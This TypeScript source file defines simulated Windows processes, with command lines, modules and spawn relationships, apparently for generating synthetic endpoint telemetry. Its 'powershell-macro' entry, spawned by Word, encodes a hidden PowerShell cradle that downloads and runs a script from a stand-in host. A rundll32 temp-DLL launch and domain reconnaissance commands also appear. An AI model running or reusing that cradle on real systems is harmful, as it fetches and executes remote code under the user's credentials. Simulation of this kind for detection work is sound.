/** Windows programs for simulated endpoints: the boot tree, services, desktop apps and shells. */
import type { BootNode, HostType, OsCatalog, Program } from './catalog.js';

const S32 = 'c:\\windows\\system32\\';
const dll = (...names: string[]) => names.map((name) => S32 + name);

const CORE = dll('ntdll.dll', 'kernel32.dll', 'kernelbase.dll', 'msvcrt.dll', 'ucrtbase.dll', 'advapi32.dll', 'sechost.dll', 'rpcrt4.dll');
const GUI = dll('user32.dll', 'win32u.dll', 'gdi32.dll', 'combase.dll', 'ole32.dll', 'shell32.dll', 'shlwapi.dll', 'uxtheme.dll');
const NET = dll('ws2_32.dll', 'mswsock.dll', 'dnsapi.dll', 'iphlpapi.dll', 'winhttp.dll', 'crypt32.dll', 'bcrypt.dll', 'ncrypt.dll', 'schannel.dll');
const WININET = dll('wininet.dll', 'urlmon.dll', 'iertutil.dll');
const DOTNET = [
  ...dll('mscoree.dll', 'amsi.dll'),
  'c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clr.dll',
  'c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clrjit.dll',
  'c:\\windows\\assembly\\nativeimages_v4.0.30319_64\\system.manaa57fc8cc#\\a7c2c2d4b5c8d4e6e3c9f7b3f0c4b3a1\\system.management.automation.ni.dll',
];
const CHROME = ['c:\\program files\\google\\chrome\\application\\120.0.6099.130\\chrome.dll', 'c:\\program files\\google\\chrome\\application\\chrome_elf.dll'];
const FIREFOX = ['c:\\program files\\mozilla firefox\\xul.dll', 'c:\\program files\\mozilla firefox\\mozglue.dll', 'c:\\program files\\mozilla firefox\\nss3.dll'];
const OFFICE = ['c:\\program files\\common files\\microsoft shared\\office16\\mso20win32client.dll', 'c:\\program files\\common files\\microsoft shared\\office16\\mso.dll'];

const CHROME_EXE = 'c:\\program files\\google\\chrome\\application\\chrome.exe';
const CHROME_CMD = '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"';
const FIREFOX_EXE = 'c:\\program files\\mozilla firefox\\firefox.exe';
const POWERSHELL_EXE = S32 + 'windowspowershell\\v1.0\\powershell.exe';
const SVCHOST = S32 + 'svchost.exe';
const DEFENDER = 'c:\\programdata\\microsoft\\windows defender\\platform\\4.18.23110.3-0\\';

/** `-EncodedCommand` takes base64 of UTF-16LE text, as management tools and attackers both send it. */
const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
const INVENTORY = encoded('Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime | ConvertTo-Json');
const CRADLE = encoded("$w=New-Object Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $w.DownloadString('https://cdn-update-sync.top/a')");

const svchost = (group: string, runAs: string, extra: Partial<Program> = {}): Program => ({
  path: SVCHOST, cmdlines: [`C:\\Windows\\system32\\svchost.exe -k ${group} -p`], runAs, desc: 'Host Process for Windows Services',
  modules: [...CORE, ...dll('combase.dll')], act: [1, 4], long: true, ...extra,
});
const tool = (name: string, cmdlines: string[], desc: string, extra: Partial<Program> = {}): Program => ({
  path: S32 + name, cmdlines, runAs: 'user', desc, modules: CORE, act: [0, 2], ...extra,
});

const programs: Record<string, Program> = {
  system: { path: S32 + 'ntoskrnl.exe', cmdlines: [''], runAs: 'none', desc: 'NT Kernel & System', act: [2, 6], file: 1, files: ['system-files'], long: true },
  smss: { path: S32 + 'smss.exe', cmdlines: ['\\SystemRoot\\System32\\smss.exe'], runAs: 'system', desc: 'Windows Session Manager', modules: dll('ntdll.dll'), long: true },
  csrss: {
    path: S32 + 'csrss.exe', runAs: 'none', desc: 'Client Server Runtime Process', modules: dll('ntdll.dll', 'csrsrv.dll', 'basesrv.dll', 'winsrv.dll'),
    cmdlines: ['%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16'],
    act: [1, 4], cross: 1, crossproc: ['thread_open', 0x1fffff], long: true,
  },
  wininit: { path: S32 + 'wininit.exe', cmdlines: ['wininit.exe'], runAs: 'system', desc: 'Windows Start-Up Application', modules: CORE, long: true },
  services: {
    path: S32 + 'services.exe', cmdlines: ['C:\\Windows\\system32\\services.exe'], runAs: 'system', desc: 'Services and Controller app', modules: CORE,
    act: [1, 3], reg: 1, keys: ['services'], long: true,
    spawns: [['msiexec', 2], ['trustedinstaller', 1], ['sppsvc', 2], ['svchost-worker', 3]],
  },
  lsass: {
    path: S32 + 'lsass.exe', cmdlines: ['C:\\Windows\\system32\\lsass.exe'], runAs: 'system', desc: 'Local Security Authority Process',
    modules: [...CORE, ...dll('lsasrv.dll', 'samsrv.dll', 'kerberos.dll', 'msv1_0.dll', 'netlogon.dll')], act: [1, 4], net: 1, dests: ['dc'], long: true,
  },
  'lsass-dc': {
    path: S32 + 'lsass.exe', cmdlines: ['C:\\Windows\\system32\\lsass.exe'], runAs: 'system', desc: 'Local Security Authority Process',
    modules: [...CORE, ...dll('lsasrv.dll', 'samsrv.dll', 'kerberos.dll', 'msv1_0.dll', 'ntdsa.dll')], act: [4, 12], net: 1, dests: ['inbound-ldap'], long: true,
  },
  'svchost-dcom': svchost('DcomLaunch', 'system', { spawns: [['wmiprvse', 3], ['runtimebroker', 3], ['dllhost', 2], ['backgroundtaskhost', 2]] }),
  'svchost-rpcss': svchost('RPCSS', 'network_service'),
  'svchost-netsvcs': svchost('netsvcs', 'system', {
    act: [2, 8], net: 2, file: 2, reg: 3, dests: ['microsoft', 'windowsupdate'], files: ['prefetch', 'windows-update'], keys: ['services', 'windows-update', 'bam'],
    spawns: [['taskhostw', 3], ['usoclient', 1], ['compattelrunner', 1]],
  }),
  'svchost-localservice': svchost('LocalService', 'local_service', { net: 1, dests: ['ntp'] }),
  'svchost-networkservice': svchost('NetworkService', 'network_service', { act: [3, 10], net: 1, dests: ['dns'], modules: [...CORE, ...dll('dnsapi.dll', 'dnsrslvr.dll')] }),
  'svchost-worker': svchost('netsvcs', 'system', { long: false, act: [1, 3], reg: 1, keys: ['services'] }),
  spoolsv: { path: S32 + 'spoolsv.exe', cmdlines: ['C:\\Windows\\System32\\spoolsv.exe'], runAs: 'system', desc: 'Spooler SubSystem App', modules: [...CORE, ...dll('winspool.drv')], long: true },
  msmpeng: {
    path: DEFENDER + 'msmpeng.exe', cmdlines: [`"${DEFENDER}MsMpEng.exe"`], runAs: 'system', desc: 'Antimalware Service Executable',
    modules: [...CORE, ...NET, DEFENDER + 'mpsvc.dll', DEFENDER + 'mpengine.dll'], act: [2, 8], net: 1, file: 2, reg: 1, cross: 2,
    dests: ['defender'], files: ['defender'], keys: ['defender'], crossproc: ['process_open', 0x1410], long: true, spawns: [['mpcmdrun', 1]],
  },
  searchindexer: {
    path: S32 + 'searchindexer.exe', cmdlines: ['C:\\Windows\\system32\\SearchIndexer.exe /Embedding'], runAs: 'system', desc: 'Microsoft Windows Search Indexer',
    modules: [...CORE, ...dll('mssrch.dll', 'esent.dll')], act: [1, 4], file: 1, files: ['search'], long: true, spawns: [['searchprotocolhost', 1]],
  },
  sqlservr: {
    path: 'c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\binn\\sqlservr.exe',
    cmdlines: ['"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER'], runAs: 'NT SERVICE\\MSSQLSERVER',
    desc: 'SQL Server Windows NT - 64 Bit', modules: [...CORE, ...NET], act: [4, 12], net: 2, file: 1, dests: ['inbound-sql'], files: ['sql'], long: true,
  },
  dns: { path: S32 + 'dns.exe', cmdlines: ['C:\\Windows\\system32\\dns.exe'], runAs: 'system', desc: 'Domain Name System (DNS) Server', modules: [...CORE, ...NET], act: [4, 10], net: 1, dests: ['dns'], long: true },
  lanmanserver: svchost('smbsvcs', 'system', { act: [3, 8], net: 1, dests: ['inbound-smb'] }),
  winlogon: { path: S32 + 'winlogon.exe', cmdlines: ['winlogon.exe'], runAs: 'system', desc: 'Windows Logon Application', modules: [...CORE, ...GUI], long: true },
  dwm: { path: S32 + 'dwm.exe', cmdlines: ['"dwm.exe"'], runAs: 'Window Manager\\DWM-1', desc: 'Desktop Window Manager', modules: [...CORE, ...GUI, ...dll('dwmcore.dll', 'd3d11.dll')], long: true },
  userinit: { path: S32 + 'userinit.exe', cmdlines: ['C:\\Windows\\system32\\userinit.exe'], runAs: 'user', desc: 'Userinit Logon Application', modules: [...CORE, ...GUI] },
  explorer: {
    path: 'c:\\windows\\explorer.exe', cmdlines: ['C:\\Windows\\Explorer.EXE'], runAs: 'user', desc: 'Windows Explorer',
    modules: [...CORE, ...GUI, ...dll('windows.storage.dll', 'explorerframe.dll', 'propsys.dll')], act: [2, 6], file: 2, reg: 3,
    files: ['user-docs', 'downloads'], keys: ['explorer', 'run', 'bam'], long: true,
    spawns: [
      ['chrome', 12], ['firefox', 4], ['outlook', 4], ['winword', 5], ['excel', 4], ['notepad', 4], ['cmd', 6], ['powershell', 4],
      ['sevenzip', 2], ['mstsc', 1], ['setup', 1],
    ],
  },
  onedrive: {
    path: 'c:\\program files\\microsoft onedrive\\onedrive.exe', cmdlines: ['"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background'], runAs: 'user',
    desc: 'Microsoft OneDrive', modules: [...CORE, ...NET], act: [2, 6], net: 2, file: 3, dests: ['office'], files: ['onedrive'], long: true,
  },
  msteams: {
    path: 'c:\\program files\\windowsapps\\msteams_23320.3021.2567.4799_x64__8wekyb3d8bbwe\\ms-teams.exe', cmdlines: ['"ms-teams.exe" msteams:system-initiated'],
    runAs: 'user', desc: 'Microsoft Teams', modules: [...CORE, ...GUI, ...NET], act: [3, 10], net: 3, file: 1, dests: ['office'], files: ['user-docs'], long: true,
  },
  chrome: {
    path: CHROME_EXE, cmdlines: [CHROME_CMD, `${CHROME_CMD} --profile-directory=Default`, `${CHROME_CMD} --single-argument https://outlook.office365.com/mail/`],
    runAs: 'user', desc: 'Google Chrome', modules: [...CORE, ...GUI, ...CHROME], act: [3, 10], net: 1, file: 4, reg: 1,
    dests: ['google'], files: ['chrome-cache', 'downloads'], keys: ['chrome'], long: true,
    children: [['chrome-gpu', 1], ['chrome-network', 1], ['chrome-renderer', 4]], childCount: [3, 6], spawns: [['chrome-renderer', 1]],
  },
  'chrome-gpu': {
    path: CHROME_EXE, runAs: 'user', desc: 'Google Chrome', modules: [...CORE, ...CHROME, ...dll('d3d11.dll', 'dxgi.dll')], act: [0, 1], file: 1, files: ['chrome-cache'],
    cmdlines: [`${CHROME_CMD} --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA== --mojo-platform-channel-handle=1944 --field-trial-handle=1828,i,{n}17520964,8302340541,262144 /prefetch:2`],
  },
  'chrome-network': {
    path: CHROME_EXE, runAs: 'user', desc: 'Google Chrome', modules: [...CORE, ...CHROME, ...NET], act: [4, 14], net: 1, dests: ['google', 'web', 'office'],
    cmdlines: [`${CHROME_CMD} --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2212 --field-trial-handle=1828,i,{n}17520964,8302340541,262144 /prefetch:3`],
  },
  'chrome-renderer': {
    path: CHROME_EXE, runAs: 'user', desc: 'Google Chrome', modules: [...CORE, ...CHROME], act: [0, 2], file: 1, files: ['chrome-cache'],
    cmdlines: [`${CHROME_CMD} --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-1701958340713404 --launch-time-ticks=2305166153 --mojo-platform-channel-handle=3400 --field-trial-handle=1828,i,{n}17520964,8302340541,262144 /prefetch:1`],
  },
  firefox: {
    path: FIREFOX_EXE, cmdlines: ['"C:\\Program Files\\Mozilla Firefox\\firefox.exe"', '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -osint -url https://example.com/'],
    runAs: 'user', desc: 'Firefox', modules: [...CORE, ...GUI, ...NET, ...FIREFOX], act: [4, 12], net: 3, file: 2, dests: ['mozilla', 'web', 'google'], files: ['firefox-profile', 'downloads'],
    long: true, children: [['firefox-content', 1]], childCount: [2, 4], spawns: [['firefox-content', 1]],
  },
  'firefox-content': {
    path: FIREFOX_EXE, runAs: 'user', desc: 'Firefox', modules: [...CORE, ...FIREFOX], act: [0, 1], file: 1, files: ['firefox-profile'],
    cmdlines: ['"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel="2624.{n}.1302348271\\1739052374" -childID {n} -isForBrowser -prefsHandle 2032 -prefMapHandle 2028 -prefsLen 22968 -prefMapSize 235145 -parentBuildID 20231211174248 -appDir "C:\\Program Files\\Mozilla Firefox\\browser" - 2624 "\\\\.\\pipe\\gecko-crash-server-pipe.2624" 1888 tab'],
  },
  outlook: {
    path: 'c:\\program files\\microsoft office\\root\\office16\\outlook.exe', cmdlines: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'],
    runAs: 'user', desc: 'Microsoft Outlook', modules: [...CORE, ...GUI, ...NET, ...OFFICE, 'c:\\program files\\microsoft office\\root\\office16\\olmapi32.dll'],
    act: [4, 12], net: 3, file: 2, reg: 1, dests: ['office'], files: ['outlook'], keys: ['office'], long: true, spawns: [['winword', 2], ['chrome', 1]],
  },
  winword: {
    path: 'c:\\program files\\microsoft office\\root\\office16\\winword.exe', runAs: 'user', desc: 'Microsoft Word',
    cmdlines: ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q{n} budget review.docx" /o ""'],
    modules: [...CORE, ...GUI, ...OFFICE, ...WININET, 'c:\\program files\\microsoft office\\root\\office16\\wwlib.dll'], act: [4, 12], net: 1, file: 3, reg: 2,
    dests: ['office'], files: ['office-docs'], keys: ['office'], children: [['splwow64', 12], ['powershell-macro', 1]], childCount: [0, 1],
  },
  excel: {
    path: 'c:\\program files\\microsoft office\\root\\office16\\excel.exe', runAs: 'user', desc: 'Microsoft Excel',
    cmdlines: ['"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\{user}\\Documents\\forecast {date}.xlsx"'],
    modules: [...CORE, ...GUI, ...OFFICE, ...WININET], act: [3, 10], net: 1, file: 3, reg: 2, dests: ['office'], files: ['office-docs'], keys: ['office'],
  },
  splwow64: { path: 'c:\\windows\\splwow64.exe', cmdlines: ['C:\\Windows\\splwow64.exe 12288'], runAs: 'user', desc: 'Print driver host for applications', modules: CORE },
  notepad: tool('notepad.exe', ['"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{user}\\Desktop\\notes.txt', 'notepad.exe'], 'Notepad', { files: ['user-docs'], modules: [...CORE, ...GUI] }),
  cmd: tool('cmd.exe', ['"C:\\Windows\\system32\\cmd.exe"', 'cmd.exe /c whoami /all', 'C:\\Windows\\system32\\cmd.exe /c "ipconfig /all & net view"'], 'Windows Command Processor', {
    act: [0, 2], reg: 1, keys: ['bam'], children: [['conhost', 4], ['whoami', 2], ['ipconfig', 2], ['net', 2], ['ping', 2], ['tasklist', 1], ['systeminfo', 1], ['reg', 1], ['powershell', 1]],
    childCount: [1, 4],
  }),
  powershell: {
    path: POWERSHELL_EXE, runAs: 'user', desc: 'Windows PowerShell', modules: [...CORE, ...DOTNET, ...NET], act: [2, 6], net: 1, file: 2, reg: 1,
    dests: ['microsoft'], files: ['ps-history', 'win-temp'], keys: ['powershell'],
    cmdlines: [
      '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
      'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\IT\\Scripts\\Collect-Inventory.ps1',
      `powershell.exe -NoLogo -NonInteractive -EncodedCommand ${INVENTORY}`,
      'powershell.exe Get-Service | Where-Object {$_.Status -eq "Running"}',
    ],
    children: [['conhost', 3], ['whoami', 1], ['ipconfig', 1], ['net', 1]], childCount: [1, 2],
  },
  'powershell-macro': {
    path: POWERSHELL_EXE, runAs: 'user', desc: 'Windows PowerShell', modules: [...CORE, ...DOTNET, ...NET, ...WININET], act: [3, 6], net: 2, file: 2, reg: 1, cross: 1,
    cmdlines: [`powershell.exe -nop -w hidden -enc ${CRADLE}`], dests: ['suspicious'], files: ['dropped'], keys: ['run-suspicious'], crossproc: ['remote_thread', 0x1fffff],
    children: [['rundll32', 1]], childCount: [0, 1],
  },
  rundll32: tool('rundll32.exe', ['rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\upd{hex}.dll,DllRegisterServer'], 'Windows host process (Rundll32)', {
    act: [1, 3], net: 2, dests: ['suspicious'], modules: [...CORE, ...NET],
  }),
  conhost: tool('conhost.exe', ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'], 'Console Window Host', { act: [0, 0] }),
  whoami: tool('whoami.exe', ['whoami', 'whoami /all', 'whoami /priv'], 'whoami - displays logged on user information'),
  ipconfig: tool('ipconfig.exe', ['ipconfig /all', 'ipconfig /flushdns'], 'IP Configuration Utility'),
  net: tool('net.exe', ['net user /domain', 'net group "Domain Admins" /domain', 'net use \\\\fs-01\\share', 'net localgroup administrators'], 'Net Command', {
    net: 1, dests: ['dc', 'fileshare'], children: [['net1', 1]], childCount: [1, 1],
  }),
  net1: tool('net1.exe', ['C:\\Windows\\system32\\net1 user /domain', 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain'], 'Net Command', { net: 1, dests: ['dc'] }),
  ping: tool('ping.exe', ['ping -n 1 10.0.0.10', 'ping fs-01.corp.example'], 'TCP/IP Ping Command'),
  tasklist: tool('tasklist.exe', ['tasklist /v', 'tasklist /svc'], 'Lists the current running tasks', { cross: 3, crossproc: ['process_open', 0x1000] }),
  systeminfo: tool('systeminfo.exe', ['systeminfo'], 'Displays system information'),
  reg: tool('reg.exe', ['reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Common /v QMEnable /t REG_DWORD /d 0 /f'], 'Registry Console Tool', {
    reg: 2, keys: ['run', 'office'],
  }),
  mstsc: tool('mstsc.exe', ['"C:\\Windows\\system32\\mstsc.exe" /v:srv-app-01'], 'Remote Desktop Connection', { act: [1, 3], net: 3, dests: ['rdp'], modules: [...CORE, ...GUI, ...NET] }),
  sevenzip: {
    path: 'c:\\program files\\7-zip\\7zfm.exe', cmdlines: ['"C:\\Program Files\\7-Zip\\7zFM.exe" "C:\\Users\\{user}\\Downloads\\tools-{n}.zip"'], runAs: 'user', desc: '7-Zip File Manager',
    modules: [...CORE, ...GUI, 'c:\\program files\\7-zip\\7z.dll'], act: [2, 6], file: 1, files: ['win-temp', 'downloads'],
  },
  setup: {
    path: 'c:\\users\\{user}\\downloads\\installer_{host}.exe', cmdlines: ['"C:\\Users\\{user}\\Downloads\\installer_{host}.exe"'], runAs: 'user', desc: 'Setup', unique: true,
    modules: [...CORE, ...GUI, ...NET, ...WININET], act: [3, 8], net: 2, file: 3, reg: 2, dests: ['web'], files: ['win-temp'], keys: ['run'],
  },
  taskhostw: tool('taskhostw.exe', ['taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'taskhostw.exe Install $(Arg0)'], 'Host Process for Windows Tasks', { runAs: 'user' }),
  usoclient: tool('usoclient.exe', ['C:\\Windows\\system32\\usoclient.exe StartScan'], 'UsoClient', { runAs: 'system', net: 2, dests: ['windowsupdate'] }),
  compattelrunner: tool('compattelrunner.exe', ['C:\\Windows\\system32\\compattelrunner.exe -maintenance'], 'Microsoft Compatibility Telemetry', {
    runAs: 'system', net: 1, dests: ['microsoft'],
  }),
  wmiprvse: tool('wbem\\wmiprvse.exe', ['C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'], 'WMI Provider Host', {
    runAs: 'network_service', children: [['powershell', 1]], childCount: [0, 1],
  }),
  runtimebroker: tool('runtimebroker.exe', ['C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'], 'Runtime Broker', { reg: 1, keys: ['explorer'] }),
  dllhost: tool('dllhost.exe', ['C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}'], 'COM Surrogate'),
  backgroundtaskhost: tool('backgroundtaskhost.exe', ['"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountBackgroundTaskServer'], 'Background Task Host', {
    net: 1, dests: ['office'],
  }),
  searchprotocolhost: tool('searchprotocolhost.exe', ['"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows Search"'], 'Microsoft Windows Search Protocol Host', {
    runAs: 'system', files: ['search'],
  }),
  mpcmdrun: {
    path: DEFENDER + 'mpcmdrun.exe', cmdlines: [`"${DEFENDER}MpCmdRun.exe" -wdenable`, `"${DEFENDER}MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges`],
    runAs: 'system', desc: 'Microsoft Malware Protection Command Line Utility', modules: [...CORE, ...NET], act: [2, 5], net: 2, file: 1, dests: ['defender'], files: ['defender'],
  },
  msiexec: tool('msiexec.exe', ['C:\\Windows\\system32\\msiexec.exe /V'], 'Windows® installer', { runAs: 'system', act: [2, 6], reg: 2, files: ['installer'], keys: ['services'] }),
  trustedinstaller: {
    path: 'c:\\windows\\servicing\\trustedinstaller.exe', cmdlines: ['C:\\Windows\\servicing\\TrustedInstaller.exe'], runAs: 'system', desc: 'Windows Modules Installer',
    modules: CORE, act: [2, 6], file: 2, reg: 1, files: ['windows-update'], keys: ['windows-update'],
  },
  sppsvc: tool('sppsvc.exe', ['C:\\Windows\\system32\\sppsvc.exe'], 'Microsoft Software Protection Platform Service', { runAs: 'network_service', net: 1, dests: ['microsoft'] }),
};

const node = (program: string, ...children: BootNode[]): BootNode => ({ program, children });

function bootTree(hostType: HostType, role: string): BootNode {
  const services = [
    'svchost-dcom', 'svchost-rpcss', 'svchost-netsvcs', 'svchost-localservice', 'svchost-networkservice', 'spoolsv', 'msmpeng', 'searchindexer',
    ...(role === 'sql' ? ['sqlservr'] : role === 'file' ? ['lanmanserver'] : hostType === 'domain_controller' ? ['dns'] : []),
  ];
  const session = hostType === 'workstation'
    ? [node('winlogon', node('dwm'), node('userinit', node('explorer', node('onedrive'), node('msteams'))))]
    : [];
  return node('system', node('smss',
    node('csrss'),
    node('wininit', node('services', ...services.map((name) => node(name))), node(hostType === 'domain_controller' ? 'lsass-dc' : 'lsass')),
    node('csrss'),
    ...session,
  ));
}

export const WINDOWS: OsCatalog = { programs, bootTree };
